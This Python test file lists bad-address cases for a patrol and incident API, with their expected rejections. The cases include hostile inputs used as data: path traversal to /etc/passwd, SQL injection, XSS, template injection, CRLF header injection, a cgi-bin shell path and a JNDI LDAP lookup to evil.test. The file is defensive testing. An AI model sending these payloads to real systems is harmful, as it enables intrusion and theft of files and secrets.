"""Bad addresses: ids that are none, of others, of another kind; methods; paths."""

from bad_case import Case
from duty_cases import GOOD_PATROL, GOOD_SHIFT
from incident_cases import GOOD as GOOD_INCIDENT
from track_cases import GOOD as GOOD_TRACK

KINDS = {"shifts": GOOD_SHIFT, "patrols": GOOD_PATROL, "incidents": GOOD_INCIDENT}
NO_IDS = [
    "1",
    "0",
    "-1",
    "null",
    "nil",
    "me",
    "..%2F..%2Fetc%2Fpasswd",
    "%2e%2e",
    "%00",
    "%0d%0aSet-Cookie:a=b",
    "%c0%af",
    "%ff%fe",
    "%F0%9F%91%AE",
    "'%20OR%201=1%20--",
    "%3Cscript%3E",
    "{{7*7}}",
    "%25%32%65",
    "018f3a52-6b00-7c11-9a01-5d0c6e1f000",
    "018f3a52-6b00-7c11-9a01-5d0c6e1f00011",
    "*",
    "a" * 4000,
]


def _one(kind: str) -> str:
    return {"shifts": "shift", "patrols": "patrol", "incidents": "incident"}[kind]


ADDRESSES = [
    *(
        Case(
            f"GET {kind} under {bad[:40]}",
            "GET",
            f"/api/v1/{kind}/{bad}",
            422,
            "api.invalid",
            {f"path.{_one(kind)}_id": "api.field.uuid"},
        )
        for number, bad in enumerate(NO_IDS)
        if "%2F" not in bad
        for kind in [list(KINDS)[number % 3]]
    ),
    *(
        Case(
            f"PUT {kind} under {bad[:40]}",
            "PUT",
            f"/api/v1/{kind}/{bad}",
            422,
            "api.invalid",
            None,
            body,
        )
        for bad in ("1", "%00", "%ff", "{{7*7}}", "%2e%2e")
        for kind, body in KINDS.items()
    ),
    *(
        Case(
            f"{method} {kind} of {name}",
            method,
            f"/api/v1/{kind}/{key}",
            404,
            "records.not_found",
            None,
            body if method == "PUT" else None,
        )
        for method in ("GET", "PUT")
        for kind, body in KINDS.items()
        for name, key in {"another squad": f"{{foreign_{_one(kind)}}}"}.items()
    ),
    *(
        Case(
            f"GET {kind} under a {other}'s id",
            "GET",
            f"/api/v1/{kind}/{{{other}}}",
            404,
            "records.not_found",
        )
        for kind in KINDS
        for other in ("shift", "patrol", "incident", "track", "officer", "nil", "new")
        if other != _one(kind)
    ),
    *(
        Case(
            f"PUT a {kind[:-1]} under a {other}'s id",
            "PUT",
            f"/api/v1/{kind}/{{{other}}}",
            201,
            body=body,
        )
        for kind, other, body in [
            ("shifts", "patrol", GOOD_SHIFT),
            ("shifts", "track", GOOD_SHIFT),
            ("incidents", "shift", GOOD_INCIDENT),
            ("incidents", "foreign_officer", GOOD_INCIDENT),
            ("patrols", "nil", GOOD_PATROL),
            ("patrols", "foreign_shift", GOOD_PATROL),
        ]
    ),
    *(
        Case(
            f"PUT another {kind[:-1]} under an id that is taken",
            "PUT",
            f"/api/v1/{kind}/{{{_one(kind)}}}",
            409,
            "records.conflict",
            None,
            {**body, ("narrative" if kind == "incidents" else "note"): "other"},
        )
        for kind, body in KINDS.items()
    ),
    *(
        Case(f"GET the shift as {name}", "GET", f"/api/v1/shifts/{key}", 200)
        for name, key in {"in capitals": "{SHIFT}", "a name": "urn:uuid:{shift}"}.items()
    ),
    *(
        Case(
            f"GET a track {name}",
            "GET",
            f"/api/v1/patrols/{patrol}/tracks/{track}",
            404,
            "records.not_found",
        )
        for name, patrol, track in [
            ("of another squad", "{foreign_patrol}", "{foreign_track}"),
            ("of another squad under an own patrol", "{patrol}", "{foreign_track}"),
            ("under a shift", "{shift}", "{track}"),
            ("under the nil patrol", "{nil}", "{track}"),
        ]
    ),
    *(
        Case(f"{method} {path}", method, path, 405, "api.method_not_allowed")
        for method in ("TRACE", "PROPFIND", "PATCH", "DELETE", "POST", "LOCK", "MKCOL", "REPORT")
        for path in ("/api/v1/shifts/{shift}",)
    ),
    *(
        Case(
            f"{method} {path}",
            method,
            path,
            405,
            "api.method_not_allowed",
            None,
            None,
            b"{}" if method != "TRACE" else None,
        )
        for method, path in [
            ("PUT", "/api/v1/shifts"),
            ("DELETE", "/api/v1/incidents"),
            ("POST", "/api/v1/areas"),
            ("TRACE", "/api/v1/session"),
            ("PUT", "/healthz"),
            ("DELETE", "/api/v1/openapi.json"),
        ]
    ),
    *(
        Case(f"GET {path[:60]}", "GET", path, 404, "api.no_route")
        for path in [
            "/api/v1/",
            "/api/v2/shifts",
            "/api/v1/shifts/",
            "//api/v1/shifts",
            "/API/V1/SHIFTS",
            "/api/v1/shifts/..%2f..%2f..%2fetc%2fpasswd",
            "/.env",
            "/.git/config",
            "/wp-login.php",
            "/docs",
            "/openapi.json",
            "/static/..%2f..%2fapp.py",
            "/static/%2e%2e%2fapp.py",
            "/static/..%5capp.py",
            "/static/none.css",
            "/static/%00",
            "/cgi-bin/.%2e/.%2e/bin/sh",
            "/api/v1/shifts;jsessionid=1",
            "/api/v1/%73hift%ff",
            "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc",
            "/a" * 4000,
            "/${jndi:ldap:%2f%2fevil.test}",
            "/<script>alert(1)</script>",
        ]
    ),
    Case(
        "a track under a path of dots",
        "PUT",
        "/api/v1/patrols/{patrol}/tracks/%2e%2e",
        422,
        "api.invalid",
        {"path.track_id": "api.field.uuid"},
        GOOD_TRACK,
    ),
]
